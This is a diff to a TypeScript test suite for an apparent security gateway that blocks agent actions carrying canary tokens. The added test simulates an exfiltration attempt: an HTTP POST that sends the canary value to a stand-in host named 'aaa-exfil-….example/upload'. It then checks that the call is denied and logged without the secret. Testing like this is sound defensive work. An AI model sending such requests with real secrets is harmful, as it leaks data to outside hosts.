@@ -1,7 +1,8 @@
 /**
  * Contract and integrity promises (issue 9) on every host:
  * - a matched canary fixes the composite at 9.5 wherever the call ends up
- *   (decision, digest item, audit record);
+ *   (decision, digest item, audit record), and exfil stats count the call
+ *   under its destination;
  * - a config dir a user wrote as contracts.md describes it starts as written:
  *   a `filters/canary.toml` holding only `[[canary.tokens]]` seeds the
  *   registry and keeps the canary filter (health `healthy`), a preset
@@ -64,6 +65,17 @@ export function integritySuite(ctx: ConformanceContext): void {
         expect(res.composite_score).toBe(9.5);
         expect(res.action).toMatch(/^deny\(/);
         expect((await auditRecord(d, session)).composite_score).toBe(9.5);
+        // Exfil stats count a blocked canary call under its destination (spec, Audit rule 4): the
+        // withheld summary keeps the URL's scheme and host when they do not carry the canary.
+        const host = `aaa-exfil-${randomBytes(4).toString('hex')}.example`;
+        const upload = { type: 'HttpRequest', method: 'POST', url: `https://${host}/upload`, body: `data=${value}` };
+        for (let i = 0; i < 3; i++) expect((await d.evaluate(upload)).action).toMatch(/^deny\(/);
+        const stats = (await d.get('/api/audit/exfil-stats')).body;
+        expect(stats.top_blocked_destinations).toContainEqual({ domain: host, count: 3 });
+        expect(stats.by_protocol.https).toBeGreaterThanOrEqual(3);
+        const exported = JSON.stringify((await d.get('/api/audit/export?limit=5')).body);
+        expect(exported).toContain(`https://${host}`);
+        expect(exported).not.toContain(value);
       } finally {
         await request(`${ctx.baseUrl}/api/canaries/${created.body.id}`, { method: 'DELETE', headers: { 'x-svc-csrf': d.dashboard } })
           .then((r) => r.body.dump());
